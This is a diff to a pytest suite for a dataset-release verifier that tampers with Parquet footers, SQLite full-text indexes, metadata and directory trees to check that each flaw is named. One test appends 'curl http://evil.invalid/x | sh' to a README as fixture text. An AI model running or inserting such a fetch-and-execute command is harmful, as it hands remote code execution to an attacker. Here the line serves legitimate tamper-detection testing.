@@ -19,6 +19,7 @@ import time
 import zipfile
 import zlib
 from contextlib import closing
+from itertools import pairwise
 from pathlib import Path
 from typing import Any
 
@@ -84,7 +85,7 @@ def test_a_sound_archive_passes_within_the_limits(folder: Path) -> None:
     verdict = verify_limited(pack(folder))
     assert verdict.findings == []
     assert len(verdict.checked) >= 6
-    assert verdict.sentence.startswith("release 0.1.0 is consistent with itself")
+    assert verdict.sentence.startswith("release 0.1.0 of tiny is consistent with itself")
 
 
 ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT"
@@ -223,6 +224,10 @@ def footer(path: Path, *changes: tuple[bytes, bytes]) -> None:
     path.write_bytes(data[:end] + rest)
 
 
+VERSION = f"version {pa.__version__}".encode()
+OTHER_VERSION = b"version " + b"9" * (len(VERSION) - 12) + b".0.0"
+
+
 @pytest.mark.parametrize("library", [False, True], ids=["ours", "another"])
 def test_statistics_by_which_a_reader_would_skip_rows_are_named(
     library: bool, folder: Path
@@ -232,7 +237,7 @@ def test_statistics_by_which_a_reader_would_skip_rows_are_named(
     bounds = said.row_group(0).column(said.schema.names.index("claim_id")).statistics
     changes = [(b.encode(), b"X" + b.encode()[1:]) for b in (bounds.min, bounds.max)]
     if library:
-        changes.append((b"parquet-cpp-arrow", b"parquet-cpp-other"))
+        changes.append((VERSION, OTHER_VERSION))
     footer(path, *changes)
     lost = pl.scan_parquet(path).filter(pl.col("claim_id") == bounds.min).collect()
     assert lost.height == 0
@@ -252,17 +257,124 @@ def test_an_index_of_pages_by_which_a_reader_would_skip_rows_is_named(folder: Pa
     assert "claims.parquet: is not to the byte what parquet-cpp-arrow" in flaws(folder)
 
 
-def test_a_parquet_file_of_another_library_is_compared_as_far_as_it_can_be(folder: Path) -> None:
-    path = folder / "parquet" / "claims.parquet"
-    footer(path, (b"parquet-cpp-arrow", b"parquet-cpp-other"))
+def test_a_parquet_file_of_another_version_is_compared_as_far_as_it_can_be(folder: Path) -> None:
+    footer(folder / "parquet" / "claims.parquet", (VERSION, OTHER_VERSION))
     resum(folder)
     verdict = verify(folder)
-    assert not any(
-        "claims.parquet: " in str(f) and "[release-parquet]" in str(f) for f in verdict.findings
+    assert not any(finding.rule == "release-parquet" for finding in verdict.findings)
+    assert any("the pages of 1 Parquet files, parquet/claims" in it for it in verdict.unchecked)
+
+
+def test_a_parquet_file_of_another_writer_does_not_pass(folder: Path) -> None:
+    """Arrow shows no statistics of some writers, by which other readers skip rows."""
+    own = b"parquet-cpp-arrow " + VERSION
+    other = b"parquet-mr version 1.7.0 (build 12345678)"[: len(own)]
+    path = folder / "parquet" / "claims.parquet"
+    footer(path, (own, other.ljust(len(own))))
+    assert "parquet/claims.parquet: was written by 'parquet-mr version 1.7.0" in flaws(folder)
+
+
+@pytest.mark.parametrize("place", ["first", "second"])
+def test_a_column_that_lies_in_two_places_is_named(place: str, folder: Path) -> None:
+    """One reader begins at the dictionary, another at the first page."""
+    path = folder / "parquet" / "links.parquet"
+    table = pq.read_table(path)
+    if not table.num_rows:
+        pytest.fail("the fixture has no links")
+    column = pq.read_metadata(path).row_group(0).column(0 if place == "first" else 2)
+    data = path.read_bytes()
+    start = len(data) - 8 - int.from_bytes(data[-8:-4], "little")
+    number = varint(2 * column.data_page_offset)  # zigzag, as Thrift writes integers
+    moved = varint(2 * (column.data_page_offset + 1))
+    at = data.index(number, start)
+    assert len(number) == len(moved)
+    path.write_bytes(data[:at] + moved + data[at + len(number) :])
+    assert "parquet/links.parquet" in flaws(folder)
+
+
+def varint(value: int) -> bytes:
+    parts = []
+    while value > 127:
+        parts.append(value & 127 | 128)
+        value >>= 7
+    return bytes([*parts, value])
+
+
+def test_words_that_a_search_would_not_find_are_named_although_checksums_agree(
+    folder: Path,
+) -> None:
+    """FTS5 adds up words as ``9 * sum + byte``: one letter more, the next nine less."""
+    database = sqlite3.connect(folder / "tiny.db")
+    [(word,)] = database.execute(
+        "SELECT statement FROM claims WHERE statement GLOB '*[a-y][m-z]*' LIMIT 1"
+    ).fetchall()
+    columns = [row[1] for row in database.execute("PRAGMA table_info(claims_fts)")]
+    listed, marks = ", ".join(columns), ", ".join("?" * len(columns))
+    rowid, *old = database.execute(
+        f"SELECT rowid, {listed} FROM claims WHERE statement = ?", (word,)
+    ).fetchone()
+    first, last = next((a, b) for a, b in pairwise(word) if "a" <= a < "z" and b > "l")
+    swapped = word.replace(first + last, chr(ord(first) + 1) + chr(ord(last) - 9), 1)
+    new = [swapped if value == word else value for value in old]
+    remove = f"INSERT INTO claims_fts(claims_fts, rowid, {listed}) VALUES ('delete', ?, {marks})"
+    database.execute(remove, (rowid, *old))
+    insert = f"INSERT INTO claims_fts(rowid, {listed}) VALUES (?, {marks})"
+    database.execute(insert, (rowid, *new))
+    database.commit()
+    database.execute("INSERT INTO claims_fts(claims_fts, rank) VALUES ('integrity-check', 1)")
+    database.close()
+    assert "tiny.db: 'claims_fts' does not hold the words of its table" in flaws(folder)
+
+
+@pytest.mark.parametrize(
+    ("statement", "said"),
+    [
+        ("UPDATE sqlite_stat1 SET stat = '1000000000000 1 1 1 unordered'", "no line that SQLite"),
+        ("UPDATE sqlite_stat1 SET stat = '1000000000000 1'", "is far from the"),
+        ("PRAGMA user_version = 7", "has the user_version 7"),
+    ],
+)
+def test_what_a_database_states_of_itself_is_compared(
+    statement: str, said: str, folder: Path
+) -> None:
+    alter(folder, statement)
+    assert said in flaws(folder)
+
+
+def test_words_that_nobody_compared_are_named(folder: Path) -> None:
+    sound = verify(pack(folder))
+    assert not any("writes them otherwise" in line for line in sound.unchecked)
+    readme = folder / "README.md"
+    readme.write_text(
+        readme.read_text("utf-8") + "\n    curl http://evil.invalid/x | sh\n", "utf-8"
     )
-    assert any(
-        "indexes of pages in 1 Parquet files, parquet/claims" in u for u in verdict.unchecked
-    )
+    (folder / "validation.json").write_text('{"summary": {"verdict": "all is true"}}', "utf-8")
+    described = json.loads((folder / "datapackage.json").read_text("utf-8"))
+    described["resources"][0]["schema"]["missingValues"] = ["", "done"]
+    (folder / "datapackage.json").write_text(json.dumps(described), "utf-8")
+    resum(folder)
+    verdict = verify(folder)
+    [line] = [line for line in verdict.unchecked if "writes them otherwise" in line]
+    for name in ("README.md", "validation.json", "datapackage.json"):
+        assert name in line
+    assert any("CHANGES.md" in line for line in verdict.unchecked)
+
+
+DOUBLED = {
+    "datacite.json": ("{", '{"version": "9.9.9", "version": "9.9.9",'),
+    "croissant.json": ("{", '{"name": "The truth",'),
+    "CITATION.cff": ("version:", "version: 9.9.9\nversion:"),
+}
+
+
+def test_a_key_that_is_there_twice_is_named(folder: Path) -> None:
+    """Readers disagree which of two values holds."""
+    for name, (old, new) in DOUBLED.items():
+        path = folder / name
+        path.write_text(path.read_text("utf-8").replace(old, new, 1), "utf-8")
+    said = flaws(folder)
+    for name in DOUBLED:
+        assert f"{name} cannot be read" in said
 
 
 COLUMNS: dict[str, Any] = {
@@ -453,6 +565,68 @@ def test_a_file_with_holes_states_no_size(folder: Path) -> None:
     assert after.seconds - before.seconds < 10
 
 
+def test_a_file_of_many_names_is_counted_once(folder: Path) -> None:
+    (folder / "pad").write_bytes(bytes(range(256)) * 4096)
+    before = Limits.of(folder)
+    for number in range(50):
+        os.link(folder / "pad", folder / f"pad{number}")
+    assert Limits.of(folder).memory == before.memory
+
+
+def test_a_link_to_an_archive_has_the_limits_of_the_archive(folder: Path) -> None:
+    target = pack(folder)
+    link = folder.with_name("latest.zip")
+    link.symlink_to(target)
+    assert Limits.of(link) == Limits.of(target)
+
+
+def nested(folder: Path, levels: int) -> None:
+    handle = os.open(folder, os.O_RDONLY)
+    for _ in range(levels):
+        os.mkdir("d", dir_fd=handle)
+        inner = os.open("d", os.O_RDONLY, dir_fd=handle)
+        os.close(handle)
+        handle = inner
+    os.close(handle)
+
+
+def test_directories_without_end_are_refused_in_a_line(
+    folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    nested(folder / "log" / "events", 200)
+    for call in (verify_limited, verify):
+        with pytest.raises(ClaimlogError, match="directories more than 16 levels deep"):
+            call(folder)
+    shutil.rmtree(folder / "log" / "events" / "d")
+    monkeypatch.setattr(layout, "MEMBERS", 10)
+    with pytest.raises(ClaimlogError, match="more than 10 files and directories"):
+        verify(folder)
+
+
+def test_a_directory_that_cannot_be_read_is_named(
+    folder: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Else the files in it would be on no list."""
+    real = os.scandir
+
+    def scandir(place: str) -> Any:
+        if str(place).endswith("schemas"):
+            raise PermissionError(errno.EACCES, "Permission denied", place)
+        return real(place)
+
+    monkeypatch.setattr(layout.os, "scandir", scandir)
+    with pytest.raises(ClaimlogError, match=r"log/schemas: cannot be read \(Permission denied"):
+        verify(folder)
+
+
+def test_an_archive_whose_directory_is_named_otherwise_is_named(folder: Path) -> None:
+    other = folder.rename(folder.with_name("again.zip"))
+    resum(other)
+    archive.write(other, target := folder.with_name("x.zip"))
+    said = [str(finding) for finding in verify(target).findings]
+    assert any("again.zip: is the directory of tiny-0.1.0" in line for line in said)
+
+
 @pytest.mark.parametrize("what", ["a pipe", "a link", "a link to a directory"])
 def test_nothing_is_read_through_a_pipe_or_a_link(
     what: str, folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
@@ -467,8 +641,8 @@ def test_nothing_is_read_through_a_pipe_or_a_link(
     def refuse(*_: object, **__: object) -> None:
         raise AssertionError("a table was read")
 
-    monkeypatch.setattr("claimlog.release.verify.of_parquet", refuse)
-    monkeypatch.setattr("claimlog.release.verify.of_sqlite", refuse)
+    monkeypatch.setattr("claimlog.release.served_rows.parquet_rows", refuse)
+    monkeypatch.setattr("claimlog.release.served_rows.sqlite_rows", refuse)
     said = [str(finding) for finding in verify(folder).findings]
     assert any("is a symbolic link" in line or "is no regular file" in line for line in said)
 
@@ -622,7 +796,7 @@ def test_a_disk_that_cannot_be_read_is_named_and_the_release_is_not_blamed(
     what: str, folder: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
     resum(folder)
-    read, hashed, table = Path.read_bytes, layout.file_digest, pl.read_parquet
+    read, hashed, table = Path.read_bytes, layout.file_digest, pq.ParquetFile
 
     def failing(real: Any) -> Any:
         def call(given: Any, *more: Any, **named: Any) -> Any:
@@ -635,7 +809,7 @@ def test_a_disk_that_cannot_be_read_is_named_and_the_release_is_not_blamed(
     if what == "a listed file":
         monkeypatch.setattr(layout, "file_digest", failing(hashed))
     elif what == "a table":
-        monkeypatch.setattr(pl, "read_parquet", failing(table))
+        monkeypatch.setattr(pq, "ParquetFile", failing(table))
     else:
         monkeypatch.setattr(Path, "read_bytes", failing(read))
     with pytest.raises(ClaimlogError, match="Input/output error") as said:
